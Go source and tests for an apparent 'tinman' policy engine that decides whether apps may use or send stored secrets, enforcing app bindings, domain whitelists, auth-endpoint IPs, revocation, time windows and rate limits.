	per    time.Duration
	events []time.Time
}

// allow consumes one unit of rate budget at instant now, reporting how
// many events were live when it was refused.
func (r *rate) allow(now time.Time) (ok bool, live int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	cutoff := now.Add(-r.per)
	kept := r.events[:0]
	for _, ev := range r.events {
		if ev.After(cutoff) {
			kept = append(kept, ev)
		}
	}
	r.events = kept
	if len(r.events) >= r.max {
		return false, len(r.events)
	}
	r.events = append(r.events, now)
	return true, 0
}

// sameSpec reports whether the limit's shape matches, making the live
// counter reusable across an Install.
func (r *rate) sameSpec(max int, per time.Duration) bool {
	return r != nil && r.max == max && r.per == per
}

// ruleset is one immutable policy version. After publication nothing in it
// is written again (the *rate cells self-synchronize), so readers navigate
// it without any lock.
type ruleset struct {
	// version increases by at least one on every published mutation.
	version uint64
	// snapVersion is the version of the last installed Snapshot (0 before
	// any Install) — the number fleet members compare for staleness.
	snapVersion uint64
	// hash is a short content hash of the ruleset (version excluded), so
	// two members holding identical rules agree on it regardless of how
	// many local mutations produced them.
	hash string

	appBindings map[string]map[string]bool // cor -> allowed app hashes
	whitelist   map[string][]string        // cor -> domains (nil = unrestricted send, empty non-nil = never send)
	authIPs     map[string][]string        // domain -> authentication endpoint IPs
	authOnly    map[string]bool            // cor -> restrict to auth IPs
	revoked     map[string]bool            // device -> revoked
	windows     map[string]Window          // cor -> daily window
	rates       map[string]*rate           // cor -> rate limit
	classRates  map[cor.Class]*rate        // class -> shared rate budget
	malware     func(appHash string) bool  // malware DB lookup (not part of the hash)
}

// clone shallow-copies every map: values (slices, inner maps, *rate cells)
// are shared with the parent, and any mutator that edits an inner structure
// must replace it rather than write through.
func (rs *ruleset) clone() *ruleset {
	next := &ruleset{
		version:     rs.version,
		snapVersion: rs.snapVersion,
		appBindings: make(map[string]map[string]bool, len(rs.appBindings)),
		whitelist:   make(map[string][]string, len(rs.whitelist)),
		authIPs:     make(map[string][]string, len(rs.authIPs)),
		authOnly:    make(map[string]bool, len(rs.authOnly)),
		revoked:     make(map[string]bool, len(rs.revoked)),
		windows:     make(map[string]Window, len(rs.windows)),
		rates:       make(map[string]*rate, len(rs.rates)),
		classRates:  make(map[cor.Class]*rate, len(rs.classRates)),
		malware:     rs.malware,
	}
	for k, v := range rs.appBindings {
		next.appBindings[k] = v
	}
	for k, v := range rs.whitelist {
		next.whitelist[k] = v
	}
	for k, v := range rs.authIPs {
		next.authIPs[k] = v
	}
	for k, v := range rs.authOnly {
		next.authOnly[k] = v
	}
	for k, v := range rs.revoked {
		next.revoked[k] = v
	}
	for k, v := range rs.windows {
		next.windows[k] = v
	}
	for k, v := range rs.rates {
		next.rates[k] = v
	}
	for k, v := range rs.classRates {
		next.classRates[k] = v
	}
	return next
}

func emptyRuleset() *ruleset {
	return &ruleset{
		appBindings: make(map[string]map[string]bool),
		whitelist:   make(map[string][]string),
		authIPs:     make(map[string][]string),
		authOnly:    make(map[string]bool),
		revoked:     make(map[string]bool),
		windows:     make(map[string]Window),
		rates:       make(map[string]*rate),
		classRates:  make(map[cor.Class]*rate),
	}
}

// Stamp identifies the exact policy a decision was made under: the
// monotonic version plus the content hash. Both ride every audit entry.
type Stamp struct {
	Version uint64
	Hash    string
}

// Engine evaluates accesses. The clock is injectable so virtual-time
// simulations enforce windows and rates on simulated time.
//
// Administration (BindApp, SetWhitelist, Revoke, Install, …) serializes on
// writeMu, copies the current ruleset, applies the change and publishes the
// copy with one atomic store. The hot Check path — every reseal on a loaded
// trusted node — loads the pointer once and runs lock-free against that
// version; concurrent checks never serialize on each other or on a swap.
type Engine struct {
	writeMu sync.Mutex
	cur     atomic.Pointer[ruleset]

	now func() time.Time

	// met holds the engine's own decision collectors (distinct from the
	// caller-level counters in node.Service): every collector is nil when
	// SetMetrics was never called, and nil collectors are no-ops.
	met struct {
		checks       *obs.Counter
		denials      map[Reason]*obs.Counter
		classDenials map[cor.Class]*obs.Counter
	}
}

// NewEngine creates an engine reading time from now (nil means time.Now).
func NewEngine(now func() time.Time) *Engine {
	if now == nil {
		now = time.Now
	}
	e := &Engine{now: now}
	rs := emptyRuleset()
	rs.hash = rulesetHash(rs)
	e.cur.Store(rs)
	return e
}

// mutate publishes one copy-on-write change: version bumps, hash is
// recomputed, readers switch atomically.
func (e *Engine) mutate(fn func(rs *ruleset)) {
	e.writeMu.Lock()
	defer e.writeMu.Unlock()
	next := e.cur.Load().clone()
	fn(next)
	next.version++
	next.hash = rulesetHash(next)
	e.cur.Store(next)
}

// BindApp allows the app with the given dex hash to access the cor.
func (e *Engine) BindApp(corID, appHash string) {
	e.mutate(func(rs *ruleset) {
		m := make(map[string]bool, len(rs.appBindings[corID])+1)
		for k, v := range rs.appBindings[corID] {
			m[k] = v
		}
		m[appHash] = true
		rs.appBindings[corID] = m
	})
}

// SetWhitelist replaces the cor's domain whitelist. A nil slice removes the
// restriction; an empty non-nil slice means the cor may never be sent.
func (e *Engine) SetWhitelist(corID string, domains []string) {
	e.mutate(func(rs *ruleset) {
		if domains == nil {
			delete(rs.whitelist, corID)
			return
		}
		rs.whitelist[corID] = append([]string(nil), domains...)
	})
}

// SetAuthIPs records a domain's dedicated authentication endpoints; the
// trusted node updates this list periodically (§3.4).
func (e *Engine) SetAuthIPs(domain string, ips []string) {
	e.mutate(func(rs *ruleset) {
		rs.authIPs[domain] = append([]string(nil), ips...)
	})
}

// RequireAuthEndpoint narrows the cor's whitelist to authentication IPs
// only — the defense against posting a password to an attacker's page
// within the whitelisted domain (§3.4).
func (e *Engine) RequireAuthEndpoint(corID string, on bool) {
	e.mutate(func(rs *ruleset) {
		rs.authOnly[corID] = on
	})
}

// Revoke cuts off a device ("if a user realizes her phone is stolen", §3.4).
func (e *Engine) Revoke(deviceID string) {
	e.mutate(func(rs *ruleset) {
		rs.revoked[deviceID] = true
	})
}

// Restore re-enables a device.
func (e *Engine) Restore(deviceID string) {
	e.mutate(func(rs *ruleset) {
		delete(rs.revoked, deviceID)
	})
}

// SetWindow constrains the cor to a daily time window (§4.2).
func (e *Engine) SetWindow(corID string, w Window) {
	e.mutate(func(rs *ruleset) {
		rs.windows[corID] = w
	})
}

// SetRateLimit constrains the cor to max accesses per period (§4.2, "four
// times per day"). The budget resets: a fresh counter replaces any prior
// limit for the cor.
func (e *Engine) SetRateLimit(corID string, max int, per time.Duration) {
	e.mutate(func(rs *ruleset) {
		rs.rates[corID] = &rate{max: max, per: per}
	})
}

// SetClassRateLimit constrains every send of a cor in the class against one
// shared budget — the class-tier defense: even if each record stays under
// its own limit, the tier as a whole cannot be drained.
func (e *Engine) SetClassRateLimit(c cor.Class, max int, per time.Duration) {
	e.mutate(func(rs *ruleset) {
		rs.classRates[c] = &rate{max: max, per: per}
	})
}

// SetMalwareCheck installs the malware-database lookup. The function rides
// the ruleset (so checks see one consistent pair of rules + lookup) but is
// code, not data: Install carries it forward unchanged.
func (e *Engine) SetMalwareCheck(fn func(appHash string) bool) {
	e.mutate(func(rs *ruleset) {
		rs.malware = fn
	})
}

// SetMetrics registers the engine's decision counters — total checks,
// per-reason and per-class denials — with an obs registry. Call before
// concurrent use; a nil registry leaves the engine uninstrumented.
func (e *Engine) SetMetrics(m *obs.Metrics) {
	if m == nil {
		return
	}
	e.met.checks = m.Counter("tinman_policy_engine_checks_total")
	e.met.denials = make(map[Reason]*obs.Counter, len(reasonNames))
	for r := ReasonAppNotBound; int(r) < len(reasonNames); r++ {
		e.met.denials[r] = m.Counter(fmt.Sprintf(`tinman_policy_engine_denials_total{reason=%q}`, r.String()))
	}
	e.met.classDenials = make(map[cor.Class]*obs.Counter, 3)
	for _, c := range cor.Classes() {
		e.met.classDenials[c] = m.Counter(fmt.Sprintf(`tinman_policy_engine_class_denials_total{class=%q}`, string(c)))
	}
}

// Stamp returns the current policy version and content hash without
// evaluating anything — what an admin or audit path records when no single
// check is in play.
func (e *Engine) Stamp() Stamp {
	rs := e.cur.Load()
	return Stamp{Version: rs.version, Hash: rs.hash}
}

// Version returns the current policy version (monotonic across every
// mutation and install).
func (e *Engine) Version() uint64 { return e.cur.Load().version }

// SnapVersion returns the version of the last installed snapshot (0 before
// any Install) — what fleet members compare when deciding whether a member
// lags the control plane.
func (e *Engine) SnapVersion() uint64 { return e.cur.Load().snapVersion }

// Check evaluates an access, recording it against the rate limit when
// allowed. It returns nil or a *Denial with the first violated rule's
// Reason.
func (e *Engine) Check(a Access) error {
	_, err := e.CheckStamped(a)
	return err
}

// CheckStamped evaluates an access and reports the exact policy version it
// was decided under. The ruleset pointer is loaded once: a concurrent
// Install or admin mutation never tears the rules mid-check, and the
// returned Stamp is precisely the version the verdict belongs to.
func (e *Engine) CheckStamped(a Access) (Stamp, error) {
	rs := e.cur.Load()
	err := rs.check(a, e.now())
	e.met.checks.Inc()
	if d, ok := IsDenial(err); ok {
		e.met.denials[d.Reason].Inc()
		if a.Class != "" {
			e.met.classDenials[a.Class].Inc()
		}
	}
	return Stamp{Version: rs.version, Hash: rs.hash}, err
}

func (rs *ruleset) check(a Access, now time.Time) error {
	if rs.malware != nil && rs.malware(a.AppHash) {
		return &Denial{Reason: ReasonMalware, CorID: a.CorID, Detail: "hash " + short(a.AppHash)}
	}
	if rs.revoked[a.DeviceID] {
		return &Denial{Reason: ReasonRevoked, CorID: a.CorID, Detail: "device " + a.DeviceID}
	}
	if m, bound := rs.appBindings[a.CorID]; bound && !m[a.AppHash] {
		return &Denial{Reason: ReasonAppNotBound, CorID: a.CorID, Detail: "hash " + short(a.AppHash)}
	}
	if w, ok := rs.windows[a.CorID]; ok && !w.contains(now) {
		return &Denial{Reason: ReasonOutsideTimeWindow, CorID: a.CorID,
			Detail: fmt.Sprintf("hour %d not in [%d,%d)", now.Hour(), w.From, w.To)}
	}

	if a.Send {
		if wl, ok := rs.whitelist[a.CorID]; ok {
			if len(wl) == 0 {
				return &Denial{Reason: ReasonNeverSend, CorID: a.CorID}
			}
			allowed := false
			for _, d := range wl {
				if domainMatch(a.Domain, d) {
					allowed = true
					break
				}
			}
			if !allowed {
				return &Denial{Reason: ReasonDomainNotAllowed, CorID: a.CorID, Detail: a.Domain}
			}
		}
		if rs.authOnly[a.CorID] {
			ips := rs.authIPs[a.Domain]
			found := false
			for _, ip := range ips {
				if ip == a.IP {
					found = true
					break
				}
			}
			if !found {
				return &Denial{Reason: ReasonIPNotAuthEndpoint, CorID: a.CorID,
					Detail: fmt.Sprintf("%s not an auth endpoint of %s", a.IP, a.Domain)}
			}
		}
	}

	// The frequency limits count egress uses ("the access frequency could
	// not exceed a preset limitation", §4.2): local offloaded computation
	// over the cor does not consume budget, sending it out does. The class
	// budget is consumed first — a cor-level refusal after that burns one
	// unit of the shared class budget, which errs on the safe side.
	if a.Send {
		if r, ok := rs.classRates[a.Class]; ok && a.Class != "" {
			if ok, live := r.allow(now); !ok {
				return &Denial{Reason: ReasonRateLimited, CorID: a.CorID,
					Detail: fmt.Sprintf("class %s: %d accesses in %v", a.Class, live, r.per)}
			}
		}
		if r, ok := rs.rates[a.CorID]; ok {
			if ok, live := r.allow(now); !ok {
				return &Denial{Reason: ReasonRateLimited, CorID: a.CorID,
					Detail: fmt.Sprintf("%d accesses in %v", live, r.per)}
			}
		}
	}
	return nil
}

// domainMatch matches exact domains and subdomains ("login.bank.com"
// matches whitelist entry "bank.com").
func domainMatch(domain, pattern string) bool {
	if domain == pattern {
		return true
	}
	return len(domain) > len(pattern)+1 &&
		domain[len(domain)-len(pattern):] == pattern &&
		domain[len(domain)-len(pattern)-1] == '.'
}

func short(h string) string {
	if len(h) > 12 {
		return h[:12]
	}
	return h
}
