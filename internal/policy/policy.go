// Package policy implements the trusted node's security enforcement (§3.4):
// the two bindings — application↔cor (by dex hash) and cor↔domain (with
// auth-endpoint IP narrowing) — plus revocation, time windows and rate
// limits (§4.2). Every cor access on the trusted node passes through an
// Engine before the cor is released to offloaded code or the network.
package policy

import (
	"errors"
	"fmt"
	"sync"
	"time"

	"tinman/internal/obs"
)

// Reason classifies a denial.
type Reason uint8

const (
	// ReasonAppNotBound: the requesting app's dex hash is not bound to the
	// cor — the phishing-app defense (§5.2).
	ReasonAppNotBound Reason = iota
	// ReasonDomainNotAllowed: the target domain is outside the cor's
	// whitelist.
	ReasonDomainNotAllowed
	// ReasonIPNotAuthEndpoint: the domain is whitelisted but the specific
	// IP is not one of its authentication endpoints (the Facebook-comment
	// attack defense, §3.4).
	ReasonIPNotAuthEndpoint
	// ReasonRevoked: the device's access was revoked (stolen phone, §3.4).
	ReasonRevoked
	// ReasonOutsideTimeWindow: the access falls outside the allowed hours
	// (§4.2).
	ReasonOutsideTimeWindow
	// ReasonRateLimited: the access frequency limit was exceeded (§4.2).
	ReasonRateLimited
	// ReasonMalware: the app hash is in the malware database.
	ReasonMalware
	// ReasonNeverSend: the cor has an empty whitelist and may never be sent
	// anywhere ("the private key of bitcoin cannot be sent out", §3.4).
	ReasonNeverSend
)

var reasonNames = [...]string{
	ReasonAppNotBound:       "app not bound to cor",
	ReasonDomainNotAllowed:  "target domain not in whitelist",
	ReasonIPNotAuthEndpoint: "target IP is not an authentication endpoint",
	ReasonRevoked:           "device access revoked",
	ReasonOutsideTimeWindow: "outside allowed time window",
	ReasonRateLimited:       "access rate limit exceeded",
	ReasonMalware:           "application is known malware",
	ReasonNeverSend:         "cor may never leave the trusted node",
}

func (r Reason) String() string {
	if int(r) < len(reasonNames) {
		return reasonNames[r]
	}
	return fmt.Sprintf("Reason(%d)", uint8(r))
}

// ReasonFromString maps a Reason's String() form back to the Reason —
// the inverse used when a denial crosses a wire as text.
func ReasonFromString(s string) (Reason, bool) {
	for r, name := range reasonNames {
		if name == s {
			return Reason(r), true
		}
	}
	return 0, false
}

// ErrDenied is the sentinel every *Denial matches via errors.Is, so
// callers can branch on "policy said no" without caring which rule fired.
var ErrDenied = errors.New("policy: access denied")

// Denial is the typed error returned for refused accesses.
type Denial struct {
	Reason Reason
	CorID  string
	Detail string
}

func (d *Denial) Error() string {
	s := fmt.Sprintf("policy: %s denied: %s", d.CorID, d.Reason)
	if d.Detail != "" {
		s += " (" + d.Detail + ")"
	}
	return s
}

// Is makes every denial match ErrDenied under errors.Is.
func (d *Denial) Is(target error) bool { return target == ErrDenied }

// IsDenial extracts a Denial from an error, unwrapping as needed.
func IsDenial(err error) (*Denial, bool) {
	var d *Denial
	if errors.As(err, &d) {
		return d, true
	}
	return nil, false
}

// Access describes one attempted cor use.
type Access struct {
	CorID    string
	AppHash  string
	DeviceID string
	// Send marks a network egress attempt; Domain/IP are the destination.
	// Non-send accesses (hashing a password inside offloaded code) check
	// only bindings, revocation, window and rate.
	Send   bool
	Domain string
	IP     string
}

// Window is an allowed daily time range [From, To) in hours; e.g. 10–22 for
// "10:00 am to 10:00 pm" (§4.2). From == To means always allowed.
type Window struct {
	From, To int
}

// contains checks an instant against the window, handling overnight ranges.
func (w Window) contains(t time.Time) bool {
	if w.From == w.To {
		return true
	}
	h := t.Hour()
	if w.From < w.To {
		return h >= w.From && h < w.To
	}
	return h >= w.From || h < w.To
}

// rate tracks a sliding-window access count. Its own mutex keeps the
// counter update off the engine's write lock: Check mutates events while
// holding only the engine's read lock plus this mutex.
type rate struct {
	mu     sync.Mutex
	max    int
	per    time.Duration
	events []time.Time
}

// Engine evaluates accesses. The clock is injectable so virtual-time
// simulations enforce windows and rates on simulated time.
//
// The maps are read-mostly: administration (BindApp, SetWhitelist, Revoke,
// …) takes the write lock, while the hot Check path — every reseal on a
// loaded trusted node — runs under the read lock so concurrent checks
// never serialize on each other.
type Engine struct {
	mu sync.RWMutex

	appBindings map[string]map[string]bool // cor -> allowed app hashes
	whitelist   map[string][]string        // cor -> domains (nil = unrestricted send, empty non-nil = never send)
	authIPs     map[string][]string        // domain -> authentication endpoint IPs
	authOnly    map[string]bool            // cor -> restrict to auth IPs
	revoked     map[string]bool            // device -> revoked
	windows     map[string]Window          // cor -> daily window
	rates       map[string]*rate           // cor -> rate limit
	malware     func(appHash string) bool  // malware DB lookup

	now func() time.Time

	// met holds the engine's own decision collectors (distinct from the
	// caller-level counters in node.Service): every collector is nil when
	// SetMetrics was never called, and nil collectors are no-ops.
	met struct {
		checks  *obs.Counter
		denials map[Reason]*obs.Counter
	}
}

// NewEngine creates an engine reading time from now (nil means time.Now).
func NewEngine(now func() time.Time) *Engine {
	if now == nil {
		now = time.Now
	}
	return &Engine{
		appBindings: make(map[string]map[string]bool),
		whitelist:   make(map[string][]string),
		authIPs:     make(map[string][]string),
		authOnly:    make(map[string]bool),
		revoked:     make(map[string]bool),
		windows:     make(map[string]Window),
		rates:       make(map[string]*rate),
		now:         now,
	}
}

// BindApp allows the app with the given dex hash to access the cor.
func (e *Engine) BindApp(corID, appHash string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	m := e.appBindings[corID]
	if m == nil {
		m = make(map[string]bool)
		e.appBindings[corID] = m
	}
	m[appHash] = true
}

// SetWhitelist replaces the cor's domain whitelist. A nil slice removes the
// restriction; an empty non-nil slice means the cor may never be sent.
func (e *Engine) SetWhitelist(corID string, domains []string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if domains == nil {
		delete(e.whitelist, corID)
		return
	}
	e.whitelist[corID] = append([]string(nil), domains...)
}

// SetAuthIPs records a domain's dedicated authentication endpoints; the
// trusted node updates this list periodically (§3.4).
func (e *Engine) SetAuthIPs(domain string, ips []string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.authIPs[domain] = append([]string(nil), ips...)
}

// RequireAuthEndpoint narrows the cor's whitelist to authentication IPs
// only — the defense against posting a password to an attacker's page
// within the whitelisted domain (§3.4).
func (e *Engine) RequireAuthEndpoint(corID string, on bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.authOnly[corID] = on
}

// Revoke cuts off a device ("if a user realizes her phone is stolen", §3.4).
func (e *Engine) Revoke(deviceID string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.revoked[deviceID] = true
}

// Restore re-enables a device.
func (e *Engine) Restore(deviceID string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	delete(e.revoked, deviceID)
}

// SetWindow constrains the cor to a daily time window (§4.2).
func (e *Engine) SetWindow(corID string, w Window) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.windows[corID] = w
}

// SetRateLimit constrains the cor to max accesses per period (§4.2, "four
// times per day").
func (e *Engine) SetRateLimit(corID string, max int, per time.Duration) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.rates[corID] = &rate{max: max, per: per}
}

// allow consumes one unit of rate budget at instant now, reporting how
// many events were live when it was refused.
func (r *rate) allow(now time.Time) (ok bool, live int) {
	r.mu.Lock()
	defer r.mu.Unlock()
	cutoff := now.Add(-r.per)
	kept := r.events[:0]
	for _, ev := range r.events {
		if ev.After(cutoff) {
			kept = append(kept, ev)
		}
	}
	r.events = kept
	if len(r.events) >= r.max {
		return false, len(r.events)
	}
	r.events = append(r.events, now)
	return true, 0
}

// SetMalwareCheck installs the malware-database lookup.
func (e *Engine) SetMalwareCheck(fn func(appHash string) bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.malware = fn
}

// SetMetrics registers the engine's decision counters — total checks and
// per-reason denials — with an obs registry. Call before concurrent use;
// a nil registry leaves the engine uninstrumented.
func (e *Engine) SetMetrics(m *obs.Metrics) {
	if m == nil {
		return
	}
	e.met.checks = m.Counter("tinman_policy_engine_checks_total")
	e.met.denials = make(map[Reason]*obs.Counter, len(reasonNames))
	for r := ReasonAppNotBound; int(r) < len(reasonNames); r++ {
		e.met.denials[r] = m.Counter(fmt.Sprintf(`tinman_policy_engine_denials_total{reason=%q}`, r.String()))
	}
}

// Check evaluates an access, recording it against the rate limit when
// allowed. It returns nil or a *Denial with the first violated rule's
// Reason. check takes only the engine's read lock — concurrent checks
// proceed in parallel; the rate counter has its own lock (see rate.allow).
func (e *Engine) Check(a Access) error {
	err := e.check(a)
	e.met.checks.Inc()
	if d, ok := IsDenial(err); ok {
		e.met.denials[d.Reason].Inc()
	}
	return err
}

func (e *Engine) check(a Access) error {
	e.mu.RLock()
	defer e.mu.RUnlock()
	now := e.now()

	if e.malware != nil && e.malware(a.AppHash) {
		return &Denial{Reason: ReasonMalware, CorID: a.CorID, Detail: "hash " + short(a.AppHash)}
	}
	if e.revoked[a.DeviceID] {
		return &Denial{Reason: ReasonRevoked, CorID: a.CorID, Detail: "device " + a.DeviceID}
	}
	if m, bound := e.appBindings[a.CorID]; bound && !m[a.AppHash] {
		return &Denial{Reason: ReasonAppNotBound, CorID: a.CorID, Detail: "hash " + short(a.AppHash)}
	}
	if w, ok := e.windows[a.CorID]; ok && !w.contains(now) {
		return &Denial{Reason: ReasonOutsideTimeWindow, CorID: a.CorID,
			Detail: fmt.Sprintf("hour %d not in [%d,%d)", now.Hour(), w.From, w.To)}
	}

	if a.Send {
		if wl, ok := e.whitelist[a.CorID]; ok {
			if len(wl) == 0 {
				return &Denial{Reason: ReasonNeverSend, CorID: a.CorID}
			}
			allowed := false
			for _, d := range wl {
				if domainMatch(a.Domain, d) {
					allowed = true
					break
				}
			}
			if !allowed {
				return &Denial{Reason: ReasonDomainNotAllowed, CorID: a.CorID, Detail: a.Domain}
			}
		}
		if e.authOnly[a.CorID] {
			ips := e.authIPs[a.Domain]
			found := false
			for _, ip := range ips {
				if ip == a.IP {
					found = true
					break
				}
			}
			if !found {
				return &Denial{Reason: ReasonIPNotAuthEndpoint, CorID: a.CorID,
					Detail: fmt.Sprintf("%s not an auth endpoint of %s", a.IP, a.Domain)}
			}
		}
	}

	// The frequency limit counts egress uses ("the access frequency could
	// not exceed a preset limitation", §4.2): local offloaded computation
	// over the cor does not consume budget, sending it out does.
	if r, ok := e.rates[a.CorID]; ok && a.Send {
		if ok, live := r.allow(now); !ok {
			return &Denial{Reason: ReasonRateLimited, CorID: a.CorID,
				Detail: fmt.Sprintf("%d accesses in %v", live, r.per)}
		}
	}
	return nil
}

// domainMatch matches exact domains and subdomains ("login.bank.com"
// matches whitelist entry "bank.com").
func domainMatch(domain, pattern string) bool {
	if domain == pattern {
		return true
	}
	return len(domain) > len(pattern)+1 &&
		domain[len(domain)-len(pattern):] == pattern &&
		domain[len(domain)-len(pattern)-1] == '.'
}

func short(h string) string {
	if len(h) > 12 {
		return h[:12]
	}
	return h
}
