package policy

import (
	"testing"
	"testing/quick"
	"time"
)

// fixedClock returns a controllable time source.
func fixedClock(start time.Time) (*time.Time, func() time.Time) {
	t := start
	return &t, func() time.Time { return t }
}

func noonClock() (*time.Time, func() time.Time) {
	return fixedClock(time.Date(2015, 4, 21, 12, 0, 0, 0, time.UTC)) // EuroSys'15 day 1
}

func TestAppBinding(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.BindApp("fb-pw", "hash-official")

	if err := e.Check(Access{CorID: "fb-pw", AppHash: "hash-official"}); err != nil {
		t.Fatalf("bound app denied: %v", err)
	}
	err := e.Check(Access{CorID: "fb-pw", AppHash: "hash-phishing"})
	d, ok := IsDenial(err)
	if !ok || d.Reason != ReasonAppNotBound {
		t.Fatalf("phishing app: %v", err)
	}
	// A cor with no bindings is accessible by any app (binding is opt-in).
	if err := e.Check(Access{CorID: "unbound", AppHash: "whatever"}); err != nil {
		t.Fatalf("unbound cor denied: %v", err)
	}
}

func TestDomainWhitelist(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.SetWhitelist("fb-pw", []string{"facebook.com"})

	cases := []struct {
		domain string
		wantOK bool
	}{
		{"facebook.com", true},
		{"login.facebook.com", true}, // subdomain
		{"evil.com", false},
		{"notfacebook.com", false},       // suffix trick
		{"facebook.com.evil.com", false}, // prefix trick
	}
	for _, c := range cases {
		err := e.Check(Access{CorID: "fb-pw", Send: true, Domain: c.domain})
		if c.wantOK && err != nil {
			t.Errorf("%s: unexpectedly denied: %v", c.domain, err)
		}
		if !c.wantOK {
			if d, ok := IsDenial(err); !ok || d.Reason != ReasonDomainNotAllowed {
				t.Errorf("%s: err = %v, want domain denial", c.domain, err)
			}
		}
	}
	// Non-send accesses ignore the whitelist.
	if err := e.Check(Access{CorID: "fb-pw", Send: false, Domain: "evil.com"}); err != nil {
		t.Fatalf("non-send access denied: %v", err)
	}
}

func TestNeverSendCor(t *testing.T) {
	// "the private key of bitcoin cannot be sent out" (§3.4).
	_, now := noonClock()
	e := NewEngine(now)
	e.SetWhitelist("btc-key", []string{})
	err := e.Check(Access{CorID: "btc-key", Send: true, Domain: "anywhere.com"})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonNeverSend {
		t.Fatalf("err = %v, want never-send denial", err)
	}
	if err := e.Check(Access{CorID: "btc-key", Send: false}); err != nil {
		t.Fatalf("local use of never-send cor denied: %v", err)
	}
}

func TestAuthEndpointNarrowing(t *testing.T) {
	// The Facebook-comment attack (§3.4): the password may only go to the
	// dedicated authentication machines, not any IP in the domain.
	_, now := noonClock()
	e := NewEngine(now)
	e.SetWhitelist("fb-pw", []string{"facebook.com"})
	e.SetAuthIPs("facebook.com", []string{"31.13.64.1"})
	e.RequireAuthEndpoint("fb-pw", true)

	if err := e.Check(Access{CorID: "fb-pw", Send: true, Domain: "facebook.com", IP: "31.13.64.1"}); err != nil {
		t.Fatalf("auth endpoint denied: %v", err)
	}
	err := e.Check(Access{CorID: "fb-pw", Send: true, Domain: "facebook.com", IP: "31.13.99.99"})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonIPNotAuthEndpoint {
		t.Fatalf("comment-page IP: %v", err)
	}

	e.RequireAuthEndpoint("fb-pw", false)
	if err := e.Check(Access{CorID: "fb-pw", Send: true, Domain: "facebook.com", IP: "31.13.99.99"}); err != nil {
		t.Fatalf("narrowing off but still denied: %v", err)
	}
}

func TestRevocation(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.Revoke("stolen-phone")
	err := e.Check(Access{CorID: "any", DeviceID: "stolen-phone"})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonRevoked {
		t.Fatalf("err = %v", err)
	}
	if err := e.Check(Access{CorID: "any", DeviceID: "other-phone"}); err != nil {
		t.Fatalf("unrevoked device denied: %v", err)
	}
	e.Restore("stolen-phone")
	if err := e.Check(Access{CorID: "any", DeviceID: "stolen-phone"}); err != nil {
		t.Fatalf("restored device denied: %v", err)
	}
}

func TestTimeWindow(t *testing.T) {
	clock, now := noonClock()
	e := NewEngine(now)
	e.SetWindow("cc", Window{From: 10, To: 22})

	if err := e.Check(Access{CorID: "cc"}); err != nil {
		t.Fatalf("noon access denied: %v", err)
	}
	*clock = time.Date(2015, 4, 21, 3, 0, 0, 0, time.UTC)
	err := e.Check(Access{CorID: "cc"})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonOutsideTimeWindow {
		t.Fatalf("3am access: %v", err)
	}
}

func TestOvernightWindow(t *testing.T) {
	clock, now := noonClock()
	e := NewEngine(now)
	e.SetWindow("night", Window{From: 22, To: 6})
	*clock = time.Date(2015, 4, 21, 23, 0, 0, 0, time.UTC)
	if err := e.Check(Access{CorID: "night"}); err != nil {
		t.Fatalf("23:00 denied for overnight window: %v", err)
	}
	*clock = time.Date(2015, 4, 21, 12, 0, 0, 0, time.UTC)
	if err := e.Check(Access{CorID: "night"}); err == nil {
		t.Fatal("noon allowed for overnight window")
	}
	// Degenerate window allows everything.
	e.SetWindow("always", Window{From: 5, To: 5})
	if err := e.Check(Access{CorID: "always"}); err != nil {
		t.Fatalf("degenerate window denied: %v", err)
	}
}

func TestRateLimit(t *testing.T) {
	// "four times per day" (§4.2).
	clock, now := noonClock()
	e := NewEngine(now)
	e.SetRateLimit("cc", 4, 24*time.Hour)

	for i := 0; i < 4; i++ {
		if err := e.Check(Access{CorID: "cc", Send: true}); err != nil {
			t.Fatalf("access %d denied: %v", i, err)
		}
	}
	err := e.Check(Access{CorID: "cc", Send: true})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonRateLimited {
		t.Fatalf("fifth access: %v", err)
	}
	// Non-send (offloaded compute) accesses never consume or hit the limit.
	if err := e.Check(Access{CorID: "cc"}); err != nil {
		t.Fatalf("non-send access denied: %v", err)
	}
	// A day later the budget refreshes.
	*clock = clock.Add(25 * time.Hour)
	if err := e.Check(Access{CorID: "cc", Send: true}); err != nil {
		t.Fatalf("post-window access denied: %v", err)
	}
}

func TestDeniedAccessDoesNotConsumeRateBudget(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.SetRateLimit("cc", 2, time.Hour)
	e.BindApp("cc", "good")
	// Denied attempts (wrong app) must not burn the budget.
	for i := 0; i < 5; i++ {
		if err := e.Check(Access{CorID: "cc", AppHash: "evil", Send: true}); err == nil {
			t.Fatal("evil app allowed")
		}
	}
	for i := 0; i < 2; i++ {
		if err := e.Check(Access{CorID: "cc", AppHash: "good", Send: true}); err != nil {
			t.Fatalf("good access %d denied: %v", i, err)
		}
	}
}

func TestMalwareCheck(t *testing.T) {
	_, now := noonClock()
	e := NewEngine(now)
	e.SetMalwareCheck(func(h string) bool { return h == "bad" })
	err := e.Check(Access{CorID: "x", AppHash: "bad"})
	if d, ok := IsDenial(err); !ok || d.Reason != ReasonMalware {
		t.Fatalf("err = %v", err)
	}
	if err := e.Check(Access{CorID: "x", AppHash: "good"}); err != nil {
		t.Fatalf("clean app denied: %v", err)
	}
}

func TestDenialStrings(t *testing.T) {
	for r := ReasonAppNotBound; r <= ReasonNeverSend; r++ {
		d := &Denial{Reason: r, CorID: "c", Detail: "d"}
		if d.Error() == "" || r.String() == "" {
			t.Fatal("empty denial text")
		}
	}
	if Reason(99).String() == "" {
		t.Fatal("unknown reason unnamed")
	}
	if _, ok := IsDenial(nil); ok {
		t.Fatal("nil error is not a denial")
	}
}

